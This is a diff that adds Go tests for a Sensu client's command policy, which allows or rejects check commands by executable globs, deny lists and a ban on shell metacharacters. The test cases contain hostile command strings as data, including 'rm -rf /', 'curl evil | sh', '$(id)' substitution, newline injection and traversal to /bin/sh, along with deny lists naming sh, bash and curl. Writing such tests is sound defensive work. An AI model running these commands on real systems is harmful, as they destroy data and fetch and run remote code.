@@ -0,0 +1,290 @@
+package sensu
+
+import (
+	"encoding/json"
+	"io/ioutil"
+	"os"
+	"path/filepath"
+	"reflect"
+	"strings"
+	"testing"
+
+	"github.com/upfluence/sensu-client-go/sensu/check"
+	stdCheck "github.com/upfluence/sensu-go/sensu/check"
+	stdClient "github.com/upfluence/sensu-go/sensu/client"
+)
+
+func TestCommandPolicyEvaluate(t *testing.T) {
+	for _, tCase := range []struct {
+		policy  *commandPolicy
+		command string
+		err     string
+	}{
+		{nil, "rm -rf /", ""},
+		{&commandPolicy{}, "rm -rf /", ""},
+		{&commandPolicy{}, "  ", errNoExecutable.Error()},
+		{
+			&commandPolicy{Allow: []string{"/opt/sensu/plugins/*"}},
+			"/opt/sensu/plugins/check-disk.rb -w 80",
+			"",
+		},
+		{
+			&commandPolicy{Allow: []string{"/opt/sensu/plugins/*"}},
+			"/opt/sensu/plugins/../../../bin/sh -c id",
+			"The executable /bin/sh isn't allowed",
+		},
+		{
+			&commandPolicy{Allow: []string{"/opt/sensu/plugins/*"}},
+			"/opt/sensu/plugins/extra/check-disk.rb",
+			"The executable /opt/sensu/plugins/extra/check-disk.rb isn't allowed",
+		},
+		{&commandPolicy{Allow: []string{"i?"}}, "id -u", ""},
+		{
+			&commandPolicy{Allow: []string{"check-*"}},
+			"check-disk.rb",
+			"The executable check-disk.rb isn't allowed",
+		},
+		{
+			&commandPolicy{Deny: []string{"rm", "/bin/rm"}},
+			"A=1 rm -rf /tmp/x",
+			"The command can't start with the assignment A=1",
+		},
+		{
+			&commandPolicy{Allow: []string{"check-*"}},
+			"check-a=1 rm -rf /tmp/x",
+			"The command can't start with the assignment check-a=1",
+		},
+		{
+			&commandPolicy{Allow: []string{"check-*"}},
+			"/tmp/check-disk.rb",
+			"The executable /tmp/check-disk.rb isn't allowed",
+		},
+		{&commandPolicy{Deny: []string{"check-*"}}, "/tmp/check-disk.rb", "denied by check-*"},
+		{
+			&commandPolicy{Allow: []string{"check-*"}, Deny: []string{"/tmp/*"}},
+			"/tmp/check-disk.rb",
+			"The executable /tmp/check-disk.rb is denied by /tmp/*",
+		},
+		{&commandPolicy{Deny: []string{"sh", "bash"}}, "/bin/sh -c id", "denied by sh"},
+		{&commandPolicy{ForbidMetacharacters: true}, "check-disk.rb -w 80", ""},
+		{&commandPolicy{}, "check-disk.rb; id", ""},
+		{
+			&commandPolicy{Allow: []string{"/opt/sensu/plugins/*"}},
+			"/opt/sensu/plugins/check-disk; id",
+			"Forbidden character ';' in the command",
+		},
+		{
+			&commandPolicy{Allow: []string{"/opt/sensu/plugins/*"}},
+			"/opt/sensu/plugins/x && curl evil | sh",
+			"Forbidden character '&' in the command",
+		},
+		{
+			&commandPolicy{Allow: []string{"/opt/sensu/plugins/*"}},
+			"/opt/sensu/plugins/x$(id)",
+			"Forbidden character '$' in the command",
+		},
+		{
+			&commandPolicy{Deny: []string{"curl"}},
+			"check-disk.rb\ncurl evil",
+			"Forbidden character '\\n' in the command",
+		},
+		{
+			&commandPolicy{ForbidMetacharacters: true},
+			"check-disk.rb; rm -rf /",
+			"Forbidden character ';' in the command",
+		},
+		{
+			&commandPolicy{ForbidMetacharacters: true},
+			"check-disk.rb $(id)",
+			"Forbidden character '$' in the command",
+		},
+	} {
+		err := tCase.policy.evaluate(tCase.command, check.Process{})
+
+		if tCase.err == "" {
+			if err != nil {
+				t.Errorf("Expected %s to be allowed but got \"%s\" instead!", tCase.command, err)
+			}
+
+			continue
+		}
+
+		if err == nil || !strings.Contains(err.Error(), tCase.err) {
+			t.Errorf(
+				"Expected %s to be rejected with \"%s\" but got \"%v\" instead!",
+				tCase.command,
+				tCase.err,
+				err,
+			)
+		}
+	}
+}
+
+func TestCommandPolicyValidation(t *testing.T) {
+	for _, tCase := range []struct {
+		policy *commandPolicy
+		valid  bool
+	}{
+		{nil, true},
+		{&commandPolicy{Allow: []string{"/opt/sensu/plugins/*"}}, true},
+		{&commandPolicy{Allow: []string{"/opt/sensu/plugins/["}}, false},
+		{&commandPolicy{Deny: []string{"["}}, false},
+	} {
+		if err := tCase.policy.validate(); (err == nil) != tCase.valid {
+			t.Errorf(
+				"Expected validity of %+v to be %t but got \"%v\" instead!",
+				tCase.policy,
+				tCase.valid,
+				err,
+			)
+		}
+	}
+}
+
+func TestCommandPolicyFromEnvVars(t *testing.T) {
+	for k, v := range map[string]string{
+		"SENSU_CLIENT_COMMAND_ALLOW":                 "/opt/sensu/plugins/*,check-*",
+		"SENSU_CLIENT_COMMAND_DENY":                  "sh",
+		"SENSU_CLIENT_COMMAND_FORBID_METACHARACTERS": "true",
+		"SENSU_CLIENT_COMMAND_DIRECT_EXEC":           "1",
+	} {
+		os.Setenv(k, v)
+		defer os.Unsetenv(k)
+	}
+
+	cfg, err := NewConfigFromFile(nil, "testdata/client-attributes.json")
+
+	if err != nil {
+		t.Fatalf("Expected a nil error but got \"%s\" instead!", err)
+	}
+
+	expected := &commandPolicy{
+		Allow:                []string{"/opt/sensu/plugins/*", "check-*"},
+		Deny:                 []string{"sh"},
+		ForbidMetacharacters: true,
+		DirectExec:           true,
+	}
+
+	if p := cfg.client().CommandPolicy; !reflect.DeepEqual(p, expected) {
+		t.Errorf("Expected the command policy to be %+v but got %+v instead!", expected, p)
+	}
+
+	if _, ok := cfg.client().attributes()["command_policy"]; ok {
+		t.Error("Expected the command policy not to be a client attribute!")
+	}
+
+	os.Setenv("SENSU_CLIENT_COMMAND_DIRECT_EXEC", "maybe")
+
+	if _, err := NewConfigFromFile(nil, "testdata/client-attributes.json"); err == nil {
+		t.Error("Expected an error for an invalid direct exec flag but got nil instead!")
+	}
+}
+
+func TestHandleMessageCommandPolicy(t *testing.T) {
+	for _, tCase := range []struct {
+		request string
+		status  stdCheck.ExitStatus
+		output  string
+	}{
+		{`{"name":"remote","command":"printf remote","issued":1479057736}`, 0, "remote"},
+		{
+			`{"name":"remote","command":"printf remote; id","issued":1479057736}`,
+			stdCheck.Error,
+			"Command rejected by the command policy: Forbidden character ';' in the command",
+		},
+		{
+			`{"name":"remote","command":"id","issued":1479057736}`,
+			stdCheck.Error,
+			"Command rejected by the command policy: The executable ",
+		},
+		{`{"name":"local","command":"id","issued":1479057736}`, 0, "local; trusted"},
+	} {
+		transport := newTestTransport()
+		subscriber := NewSubscriber(
+			"test",
+			&Client{
+				Config: &Config{
+					config: &configPayload{
+						Client: &clientConfig{
+							Client: &stdClient.Client{Name: "Test"},
+							CommandPolicy: &commandPolicy{
+								Allow:                []string{"printf"},
+								ForbidMetacharacters: true,
+							},
+						},
+						Checks: []*check.Definition{
+							{
+								Check: &stdCheck.Check{
+									Name:    "local",
+									Command: "printf 'local; trusted'",
+								},
+							},
+						},
+					},
+				},
+				Transport: transport,
+			},
+		)
+
+		subscriber.handleMessage([]byte(tCase.request))
+
+		if lastMessage(transport) == nil {
+			t.Fatal("Expected a check result to be published but got nothing!")
+		}
+
+		var response CheckResponse
+
+		if err := json.Unmarshal(lastMessage(transport).Body, &response); err != nil {
+			t.Fatalf("Expected error to be nil but got \"%s\" instead!", err)
+		}
+
+		if response.Check.Status != tCase.status ||
+			!strings.HasPrefix(response.Check.Output, tCase.output) {
+			t.Errorf(
+				"Expected status %d and output \"%s\" for %s but got %d and \"%s\" instead!",
+				tCase.status,
+				tCase.output,
+				tCase.request,
+				response.Check.Status,
+				response.Check.Output,
+			)
+		}
+	}
+}
+
+func TestCommandPolicyPluginPaths(t *testing.T) {
+	dir, err := ioutil.TempDir("", "sensu-policy")
+
+	if err != nil {
+		t.Fatalf("Expected a nil error but got \"%s\" instead!", err)
+	}
+
+	defer os.RemoveAll(dir)
+
+	if err := ioutil.WriteFile(filepath.Join(dir, "id"), []byte("#!/bin/sh\n"), 0755); err != nil {
+		t.Fatalf("Expected a nil error but got \"%s\" instead!", err)
+	}
+
+	policy := &commandPolicy{Allow: []string{filepath.Join(dir, "*")}}
+
+	for _, tCase := range []struct {
+		command string
+		process check.Process
+		allowed bool
+	}{
+		{"id", check.Process{}, false},
+		{"id", check.Process{PluginPaths: []string{dir}}, true},
+		{"./id", check.Process{}, false},
+		{"./id", check.Process{Cwd: dir}, true},
+	} {
+		if err := policy.evaluate(tCase.command, tCase.process); (err == nil) != tCase.allowed {
+			t.Errorf(
+				"Expected %s to be allowed with %+v: %t but got \"%v\" instead!",
+				tCase.command,
+				tCase.process,
+				tCase.allowed,
+				err,
+			)
+		}
+	}
+}